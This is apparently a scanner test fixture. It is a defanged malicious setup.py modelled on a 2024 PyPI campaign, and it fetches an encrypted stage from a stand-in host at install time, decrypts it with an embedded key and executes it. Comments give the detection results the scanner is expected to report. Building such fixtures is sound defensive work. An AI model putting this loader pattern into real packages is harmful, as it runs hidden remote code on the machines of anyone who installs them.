# Shape of the March 2024 mass PyPI campaign (Checkmarx / Check Point):
# setup.py installs its helpers at install time, fetches an encrypted stage
# and runs it after decrypting it with a key stored in the file.
# Defanged: example.invalid; throwaway key.
import subprocess
import sys

from setuptools import setup

subprocess.check_call([sys.executable, "-m", "pip", "install", "--quiet", "fernet", "requests"])  # expect: HS242 high

import requests
from fernet import Fernet

_k = b'_tPoxLk-43slt0BbAhFCyZCEnTHzU0jdr1JM2PZGeV8='
_s = requests.get("https://funcaptcha.example.invalid/paste2?package=requests-colorize", timeout=15).content  # expect: HS105 critical
exec(Fernet(_k).decrypt(_s))  # expect: HS101 critical, HS102 critical

setup(
    name="requests-colorize",
    version="1.0.3",
    description="Colourful logging for requests",
    packages=["requests_colorize"],
    install_requires=["requests"],
)
